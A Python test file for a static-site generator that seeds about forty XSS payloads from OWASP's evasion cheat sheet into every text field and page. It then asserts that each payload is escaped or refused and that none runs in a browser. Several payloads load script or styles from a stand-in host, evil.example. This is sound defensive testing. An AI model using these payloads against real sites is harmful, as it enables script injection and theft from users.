"""Scripts in every text: they come out as the words that they are, or the text is refused.

The payloads are of the kinds in OWASP's XSS Filter Evasion Cheat Sheet. Each field of the invented city holds some of
them, as title, quote, name, definition, finding, sentence of the pages or Markdown; fields whose form admits none of
them (ids, dates, addresses, kinds) are tried one by one and must be refused.
"""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from conftest import ADDRESS, FIXTURE_CITY, ROOT, City

from pledgebook import flow
from pledgebook import site as site_module
from pledgebook.book.problems import ProblemsFound
from pledgebook.book.read import read
from pledgebook.making.cache import Cache

#: Kind of the cheat sheet's payload -> one of it. `ran()` would tell that it ran.
PAYLOADS = {
    "script": "<script>ran()</script>",
    "script in capitals": "<ScRiPt>ran()</sCrIpT>",
    "script from elsewhere": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "closing a title": "</title><script>ran()</script>",
    "closing a script": "</script><script>ran()</script>",
    "closing a style": "</style><img src=x onerror=ran()>",
    "closing a textarea": "</textarea><svg onload=ran()>",
    "closing an attribute": '"><img src=x onerror=ran()>',
    "closing a quoted attribute": "'><img src=x onerror=ran()>",
    "a handler of its own": '" onmouseover="ran()" x="',
    "a handler in single quotes": "' autofocus onfocus='ran()' x='",
    "image with a handler": "<img src=x onerror=ran()>",
    "image without quotes": "<IMG SRC=javascript:ran()>",
    "image in grave accents": "<IMG SRC=`javascript:ran()`>",
    "malformed image": '<IMG """><SCRIPT>ran()</SCRIPT>">',
    "drawing": "<svg/onload=ran()>",
    "drawing with a link": "<svg><a xlink:href=javascript:ran()><text>x</text></a></svg>",
    "body": "<BODY ONLOAD=ran()>",
    "frame": "<iframe src=javascript:ran()></iframe>",
    "frame of its own document": "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "object": "<object data=javascript:ran()></object>",
    "embedded": "<embed src=javascript:ran()>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "form": "<form action=javascript:ran()><button>x</button></form>",
    "details": "<details open ontoggle=ran()>x</details>",
    "extra brackets": "<<SCRIPT>ran();//<</SCRIPT>",
    "no end": "<img src=x onerror=ran()//",
    "template of the generator": "{{ ''.__class__.__mro__ }}{% raw %}",
    "comment": "<!--><img src=x onerror=ran()>-->",
    "conditional comment": "<!--[if gte IE 4]><script>ran()</script><![endif]-->",
    "CDATA": "<![CDATA[<script>ran()</script>]]>",
    "entity": "&lt;script&gt;ran()&lt;/script&gt;&#60;img src=x onerror=ran()&#62;",
    "link in Markdown": "[x](javascript:ran())",
    "link in Markdown with a handler": '[x](https://a.example/"onmouseover="ran())',
    "template literal": "`${ran()}`",
    "JSON": '"},{"x":"</script><script>ran()</script>',
    "line separators": "x\u2028ran()\u2029",
    "null": "<scr\0ipt>ran()</scr\0ipt>",
}
#: Those that the checks of characters refuse wherever they stand.
REFUSED = ("line separators", "null")
#: Those that Markdown's checks of links refuse in an article.
REFUSED_IN_ARTICLES = ("link in Markdown", "link in Markdown with a handler")

HANDLER = re.compile(r"on[a-z]+")


class _Tags(HTMLParser):
    """Everything in a page that could run: what isn't of the generator's own making stands out."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.shape: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        names = tuple(sorted(name for name, _ in attributes))
        self.shape.append((tag, names))
        for name, value in attributes:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if HANDLER.fullmatch(name) or (
                name in ("href", "src", "action", "data", "xlink:href", "srcdoc", "formaction")
                and (address.startswith(("javascript:", "vbscript:", "data:text")) or name == "srcdoc")
            ):
                self.found.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def payload(index: int) -> str:
    usable = [words for kind, words in PAYLOADS.items() if kind not in REFUSED]
    return usable[index % len(usable)]


def poisoned(town: Path, shift: int) -> None:
    """Put a payload into every text of a city's files, each another one; `shift` says which is the first."""
    at = iter(range(shift, 10_000))
    _every_text(town / "data/targets.yaml", ("title", "plain"), at)
    _every_text(town / "data/results.yaml", ("title",), at)
    _every_text(town / "data/themes.yaml", ("title", "summary"), at)
    _every_text(town / "data/places.yaml", ("name", "short"), at)
    _every_text(town / "data/terms.yaml", ("definition",), at)
    _every_text(town / "data/exclusions.yaml", ("why",), at)
    _every_text(town / "data/outcomes.yaml", ("finding", "publisher"), at)
    _every_text(town / "data/searches.yaml", ("where",), at)
    _every_text(town / "data/sources/misprints.yaml", ("note",), at)
    _every_text(town / "data/changes.yaml", ("reason",), at)
    _site(town / "data/site.yaml", at)
    _units(town / "data/units.yaml", at)
    for path in sorted((town / "content").rglob("*.md")):
        _article(path, at)
    for path in ("data/permalinks.lock", "data/changes.lock"):
        (town / path).unlink()


def _every_text(path: Path, fields: tuple[str, ...], at) -> None:
    records = yaml.safe_load(path.read_text(encoding="utf-8"))
    for record in records:
        for field in fields:
            for language in ("zh", "en"):
                record[field][language] += payload(next(at))
        for baseline in filter(None, [record.get("baseline")]):
            baseline["why"] = {"zh": payload(next(at)), "en": payload(next(at))}
        for change in record.get("changes", ()):
            change |= {"old": payload(next(at)), "new": payload(next(at))}
        for name in ("date", "checked", "hash"):
            if name in record:
                record[name] = str(record[name])
    path.write_text(yaml.safe_dump(records, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _site(path: Path, at) -> None:
    site = yaml.safe_load(path.read_text(encoding="utf-8"))
    for field in ("name", "short", "city", "description"):
        site[field] = {l: site[field][l] + payload(next(at)) for l in ("zh", "en")}
    for field in ("title", "issuer", "extent"):
        site["source"][field] = {l: site["source"][field][l] + payload(next(at)) for l in ("zh", "en")}
    path.write_text(yaml.safe_dump(site, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _units(path: Path, at) -> None:
    units = yaml.safe_load(path.read_text(encoding="utf-8"))
    for unit in units:
        for field in ("zh", "one", "other"):
            unit[field] += payload(next(at))
    path.write_text(yaml.safe_dump(units, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _article(path: Path, at) -> None:
    lines = path.read_text(encoding="utf-8").split("\n")
    lines[1] += payload(next(at))
    lines[2] += payload(next(at))
    for words in (kind for name, kind in PAYLOADS.items() if name not in (*REFUSED, *REFUSED_IN_ARTICLES)):
        lines += [
            "",
            words.replace("{%", "{ %"),
            "",
            f"## {words}",
            "",
            f"> {words}",
            "",
            f"| {words} |",
            "| --- |",
            "| x |",
        ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _home(home: Path) -> Path:
    """Templates and static files with a payload in every sentence of the pages; braces would be placeholders."""
    for name in ("templates", "static"):
        shutil.copytree(ROOT / name, home / name)
    path = home / "templates/strings.yaml"
    strings = yaml.safe_load(path.read_text(encoding="utf-8"))
    at = iter(range(100_000))
    for text in strings.values():
        for language in ("zh", "en"):
            text[language] += next(words for words in map(payload, at) if "{" not in words)
    path.write_text(yaml.safe_dump(strings, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return home


@pytest.fixture(scope="module")
def poisoned_site(tmp_path_factory) -> Path:
    """The invented city with scripts in every text, its own and the pages', built unchecked."""
    town = tmp_path_factory.mktemp("poisoned") / "town"
    shutil.copytree(FIXTURE_CITY, town)
    poisoned(town, 0)
    patch = pytest.MonkeyPatch()
    patch.setattr(flow, "check", lambda reading: None)
    patch.setattr(site_module, "HOME", _home(tmp_path_factory.mktemp("home")))
    run = City(town).build("--base-url", ADDRESS)
    patch.undo()
    assert run.code == 0, run.err
    return town / "site"


def shapes(folder: Path) -> dict[str, _Tags]:
    found = {}
    for path in sorted(folder.rglob("*.html")):
        parser = _Tags()
        parser.feed(path.read_text(encoding="utf-8"))
        found[path.relative_to(folder).as_posix()] = parser
    return found


@pytest.mark.slow
def test_no_page_has_a_tag_an_attribute_or_an_address_of_a_payload(poisoned_site, as_built_there):
    clean = {part for page in shapes(as_built_there.out).values() for part in page.shape}
    # What a heading, a quotation or a table of the poisoned articles brings along, and a link to another site.
    clean |= {("h2", ("id",)), ("blockquote", ()), ("code", ()), ("a", ("href",)), ("h2", ("id", "tabindex"))}
    pages = shapes(poisoned_site)
    assert len(pages) > 80
    assert all("ran()" in (poisoned_site / path).read_text(encoding="utf-8") for path in pages)
    assert [(path, page.found) for path, page in pages.items() if page.found] == []
    strange = {part: path for path, page in pages.items() for part in page.shape if part not in clean}
    assert strange == {}


@pytest.mark.slow
def test_no_other_file_has_a_raw_tag_of_a_payload(poisoned_site):
    raw = re.compile(rb"<(?:script|img|iframe|object|embed|base|body|svg/|form|details)\b[^>]*ran\(\)", re.IGNORECASE)
    for path in poisoned_site.rglob("*"):
        if path.suffix in (".xml", ".svg"):
            assert not raw.search(path.read_bytes()), path


@pytest.mark.parametrize("kind", REFUSED)
def test_some_payloads_are_refused_by_their_characters(tmp_path, kind):
    shutil.copytree(FIXTURE_CITY, tmp_path / "city")
    path = tmp_path / "city/data/themes.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace("en: Schools}", f"en: 'x{PAYLOADS[kind]}'}}"), encoding="utf-8"
    )
    with pytest.raises(ProblemsFound):
        read(tmp_path / "city", ROOT / "templates")


#: Field whose form admits no payload -> file, and the words that a payload takes the place of.
FORMS = {
    "id": ("data/themes.yaml", "- id: schools", "- id: %s"),
    "theme": ("data/targets.yaml", "  theme: building\n  places: [yunling]", "  theme: %s\n  places: [yunling]"),
    "places": ("data/targets.yaml", "places: [yunling]", "places: [%s]"),
    "kind": ("data/targets.yaml", "kind: programme", "kind: %s"),
    "url": ("data/outcomes.yaml", "url: https://www.example.org/education/2031", "url: %s"),
    "url with a path": (
        "data/outcomes.yaml",
        "url: https://www.example.org/education/2031",
        "url: 'https://a.example/%s'",
    ),
    "archived_url": ("data/outcomes.yaml", "archived_url: https://archive.example.org/bridge.html", "archived_url: %s"),
    "date": ("data/outcomes.yaml", "date: 2031-04-02", "date: %s"),
    "contact": ("data/site.yaml", "id_prefix: wc2031", "id_prefix: wc2031\ncontact: %s"),
    "repository": ("data/site.yaml", "id_prefix: wc2031", "id_prefix: wc2031\nrepository: %s"),
    "base_url": ("data/site.yaml", "id_prefix: wc2031", "id_prefix: wc2031\nbase_url: %s"),
    "redirect": ("data/redirects.yaml", "[]", "- {from: %s, to: en/about.html, why: {zh: 无。, en: None.}}"),
    "redirect's anchor": (
        "data/redirects.yaml",
        "[]",
        "- {from: 'en/a.html#%s', to: en/about.html, why: {zh: 无。, en: None.}}",
    ),
    "hash": ("data/changes.yaml", '"a9f79ef28d83"', "%s"),
}


@pytest.mark.parametrize("field", FORMS)
def test_a_field_of_a_fixed_form_refuses_every_payload(tmp_path, field):
    shutil.copytree(FIXTURE_CITY, tmp_path / "city")
    file, old, new = FORMS[field]
    path = tmp_path / "city" / file
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1
    kept = Cache(tmp_path / "cache")  # of all other files
    for words in (*PAYLOADS.values(), "javascript:ran()", "data:text/html,<script>ran()</script>"):
        inside = words.replace("'", "''")
        path.write_text(text.replace(old, new % (inside if "'" in new else f"'{inside}'")), encoding="utf-8")
        if field == "url with a path" and not re.search(r"[\s<>\"\0\u2028]", words):
            continue  # an ordinary path, which is escaped
        with pytest.raises(ProblemsFound) as found:
            read(tmp_path / "city", ROOT / "templates", kept=kept)
        assert file in {problem.file for problem in found.value.problems}, words


def test_no_script_of_a_payload_runs_without_the_content_security_policy(poisoned_site, browser):
    context = browser.new_context(bypass_csp=True)
    ran: list[str] = []
    context.expose_function("ran", lambda *_: ran.append("ran"))
    context.set_offline(True)
    page = context.new_page()
    for path in sorted(poisoned_site.rglob("*.html")):
        page.goto(path.as_uri(), wait_until="load")
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert not ran, path
    context.close()
